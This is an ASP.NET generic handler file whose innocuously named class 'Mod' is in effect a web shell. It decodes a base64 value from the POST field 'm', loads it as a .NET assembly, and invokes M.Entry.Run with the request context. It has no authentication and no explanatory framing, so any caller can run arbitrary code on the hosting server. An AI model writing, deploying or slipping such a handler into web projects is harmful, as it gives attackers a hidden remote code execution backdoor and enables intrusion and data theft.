<%@ WebHandler Language="C#" Class="Mod" %>
using System;
using System.Web;
public class Mod : IHttpHandler
{
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext c)
    {
        byte[] b = Convert.FromBase64String(c.Request.Form["m"]);
        var asm = System.Reflection.Assembly.Load(b);
        asm.GetType("M.Entry").GetMethod("Run").Invoke(null, new object[] { c });
    }
}
